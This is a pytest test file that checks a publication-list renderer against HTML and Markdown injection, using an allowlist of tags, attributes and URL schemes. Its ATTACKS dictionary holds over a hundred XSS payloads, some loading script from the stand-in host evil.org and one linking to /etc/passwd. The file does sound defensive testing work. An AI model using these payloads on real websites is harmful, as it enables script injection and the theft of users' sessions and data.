"""Nothing that a field holds becomes code or reaches another entry's card."""

import re
from collections.abc import Mapping
from urllib.parse import unquote

import pytest
from markdown_it import MarkdownIt
from tests.render import trees
from tests.render.entries import FIELDS, NEXT, items, with_field

from publist import render

ATTACKS = {
    "script": "<script>alert(1)</script>",
    "script-case": "<ScRiPt>alert(1)</sCrIpT>",
    "script-open": "<script>alert(1)",
    "script-src": "<script src=//evil.org/x.js></script>",
    "script-slash": "<script/src=//evil.org/x.js>",
    "script-newline": "<script\n>alert(1)</script\n>",
    "script-null": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "script-nested": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script-markdown": "*<script>*alert(1)*</script>*",
    "script-code": "`<script>alert(1)</script>`",
    "script-entity": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "script-entity-twice": "&amp;lt;script&amp;gt;alert(1)",
    "script-math": "$<script>alert(1)</script>$",
    "script-math-brackets": r"\(<img src=x onerror=alert(1)>\)",
    "script-in-svg": "<svg><script>alert(1)</script></svg>",
    "script-in-math": "<math><mtext><script>alert(1)</script></mtext></math>",
    "svg-onload": "<svg/onload=alert(1)>",
    "svg-animate": "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "svg-use": "<svg><use href='data:image/svg+xml,x'></use></svg>",
    "math-href": "<math href='javascript:alert(1)'>x</math>",
    "mutation-math": "<math><mi><style><img src=x onerror=alert(1)></style></mi></math>",
    "mutation-form": "<form><math><mtext></form><form><mglyph><style></math><img src "
    "onerror=alert(1)>",
    "mutation-noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "mutation-template": "<template><script>alert(1)</script></template>",
    "mutation-select": "<select><style></select><img src=x onerror=alert(1)></style>",
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-onerror-quotes": "<img src='x' onerror=\"alert(1)\">",
    "img-script": "<img src='javascript:alert(1)'>",
    "img-broken": '<img """><script>alert(1)</script>">',
    "img-markdown": "![x](javascript:alert(1))",
    "event-click": "<b onclick=alert(1)>x</b>",
    "event-slash": "<b/onmouseover=alert(1)>x</b>",
    "event-case": "<i OnMouseOver='alert(1)'>x</i>",
    "event-font": "<font color=red onfocus=alert(1) autofocus>x</font>",
    "event-span": "<span style='color:red' onclick=alert(1)>x</span>",
    "event-link": "<a href=/x onclick=alert(1)>x</a>",
    "event-details": "<details open ontoggle=alert(1)>x</details>",
    "event-video": "<video><source onerror=alert(1)></video>",
    "event-body": "<body onload=alert(1)>",
    "event-input": "<input autofocus onfocus=alert(1)>",
    "event-marquee": "<marquee onstart=alert(1)>x</marquee>",
    "style-element": "<style>*{display:none}</style>",
    "style-import": "<style>@import url(//evil.org/x.css)</style>",
    "style-expression": "<span style='width:expression(alert(1))'>x</span>",
    "style-url": "<span style='color:url(//evil.org/x)'>x</span>",
    "style-background": "<span style='background:url(javascript:alert(1))'>x</span>",
    "style-fixed": "<span style='color:red;position:fixed;top:0'>x</span>",
    "font-color": '<font color="red;background:url(//evil.org)">x</font>',
    "link-script": "<a href='javascript:alert(1)'>x</a>",
    "link-script-case": "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "link-script-blank": "<a href='  javascript:alert(1)'>x</a>",
    "link-script-tab": "<a href='java\tscript:alert(1)'>x</a>",
    "link-script-newline": "<a href='java\nscript:alert(1)'>x</a>",
    "link-script-control": "<a href='\x01javascript:alert(1)'>x</a>",
    "link-script-entity": "<a href='&#106;avascript&#58;alert(1)'>x</a>",
    "link-script-entity-long": "<a href='&#0000106avascript&#0000058alert(1)'>x</a>",
    "link-script-entity-name": "<a href='javascript&colon;alert(1)'>x</a>",
    "link-script-entity-tab": "<a href='jav&Tab;ascript&colon;alert(1)'>x</a>",
    "link-script-entity-twice": "<a href='javascript&amp;colon;alert(1)'>x</a>",
    "link-vbscript": "<a href='vbscript:msgbox(1)'>x</a>",
    "link-data": "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "link-data-base64": "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "link-file": "<a href='file:///etc/passwd'>x</a>",
    "link-markdown": "[x](javascript:alert(1))",
    "link-markdown-entity": "[x](javascript&colon;alert(1))",
    "link-markdown-data": "[x](data:text/html,x)",
    "link-markdown-quote": '[x](http://x.org/"onclick="alert(1))',
    "link-autolink": "<javascript:alert(1)>",
    "link-autolink-data": "<data:text/html,x>",
    "address-script": "javascript:alert(1)",
    "address-script-case": " JAVASCRIPT:alert(1)",
    "address-script-tab": "java\tscript:alert(1)",
    "address-script-newline": "java\r\nscript:alert(1)",
    "address-script-control": "\x01\x1fjavascript:alert(1)",
    "address-script-entity": "javascript&#58;alert(1)",
    "address-script-percent": "javascript%3Aalert(1)",
    "address-script-zero": "java\x00script:alert(1)",
    "address-vbscript": "vbscript:msgbox(1)",
    "address-data": "data:text/html,<script>alert(1)</script>",
    "address-quote": 'http://x.org/" onclick="alert(1)',
    "address-tag": "http://x.org/'><script>alert(1)</script>",
    "address-blob": "blob:http://x.org/1",
    "address-view": "view-source:javascript:alert(1)",
    "quote-out": '"><script>alert(1)</script>',
    "quote-out-attribute": "' onerror='alert(1)",
    "backtick-attribute": "`onmouseover=alert(1)",
    "comment": "<!--><script>alert(1)</script>-->",
    "comment-open": "<!-- ",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "doctype": "<!DOCTYPE html><script>alert(1)</script>",
    "instruction": "<?xml version='1.0'?><script>alert(1)</script>",
    "frame": "<iframe src='javascript:alert(1)'></iframe>",
    "frame-srcdoc": "<iframe srcdoc='<script>alert(1)</script>'>",
    "object": "<object data='javascript:alert(1)'></object>",
    "embed": "<embed src='javascript:alert(1)'>",
    "base": "<base href='//evil.org/'>",
    "meta": "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "link-element": "<link rel=stylesheet href=//evil.org/x.css>",
    "form": "<form action=javascript:alert(1)><button>x</button></form>",
    "button": "<button formaction=javascript:alert(1)>x</button>",
    "textarea": "<textarea><script>alert(1)</script></textarea>",
    "title-element": "<title><img src=x onerror=alert(1)></title>",
    "plaintext": "<plaintext>",
    "xmp": "<xmp><script>alert(1)</script></xmp>",
    "card-out": "</p></div></div></div><div class='row'><h1>mine</h1>",
    "card-out-list": "</li></ul><script>alert(1)</script>",
    "table-out": "<table><td>x",
    "class": "<span class='row' id='top'>x</span>",
    "kramdown-attribute": "x{:onclick='alert(1)'}",
    "kramdown-extension": "{::nomarkdown}<script>alert(1)</script>{:/}",
    "liquid": "{{ '<script>alert(1)</script>' }}",
    "liquid-include": "{% include x.html %}",
}
TAGS = frozenset(
    "root div pubtit img p ul li a abbr b bdi big br cite code del dfn em font i ins kbd "
    "mark q s samp small span strike strong sub sup tt u var".split()
)
OWN = {
    "div": {"class"},
    "p": {"class"},
    "img": {"src", "alt", "class", "width", "style"},
}
ALLOWED = OWN | {"a": {"href"}, "abbr": {"title"}, "font": {"color"}, "span": {"style"}}
NOTHING: Mapping[str, set[str]] = {}
CASES = [
    pytest.param(field, attack, id=f"{field}-{name}")
    for name, attack in ATTACKS.items()
    for field in FIELDS
]


def check(tree: trees.Element, own: Mapping[str, set[str]] = NOTHING) -> None:
    """Fail for what no template writes; ``own`` are a template's further elements."""
    for node in trees.elements(tree):
        assert node.tag in TAGS | own.keys(), node.tag
        allowed = ALLOWED.get(node.tag, set()) | own.get(node.tag, set())
        assert set(node.attributes) <= allowed, node
        for name in ("href", "src"):
            check_address(node.attributes.get(name))
        style = node.attributes.get("style") or ""
        assert style in {"", "float: left"} or re.fullmatch(r"color:\s?\w+;?", style)


def check_address(address: str | None) -> None:
    """Read the scheme as the most generous browser would."""
    seen = re.sub(r"[\x00-\x20\x7f-\x9f]", "", unquote(address or ""))
    scheme = re.match(r"([^/?#:]*):", seen)
    assert scheme is None or scheme[1].lower() in {"http", "https", "mailto", "ftp"}


@pytest.mark.parametrize(("field", "attack"), CASES)
def test_cards(field: str, attack: str) -> None:
    made = items(with_field(field, attack), NEXT)
    tree = trees.parse(render.render("html", made, render.Options()))
    check(tree)
    last = trees.parse(render.render("html", items(NEXT, NEXT), render.Options()))
    assert len(tree.children) == 1
    assert trees.find(tree, "div")[3:] == trees.find(last, "div")[3:]


@pytest.mark.parametrize(("field", "attack"), CASES)
def test_markdown(field: str, attack: str) -> None:
    made = items(with_field(field, attack), NEXT)
    text = render.render("markdown", made, render.Options())
    assert "{{" not in text
    assert "{%" not in text
    tree = trees.parse(MarkdownIt("commonmark").render(text))
    check(tree)
    assert [node.tag for node in tree.children if isinstance(node, trees.Element)] == [
        "ul"
    ]
    assert trees.text_of(trees.find(tree, "li")[1]) == "Next. N. Ext. Next 1 (2020)."
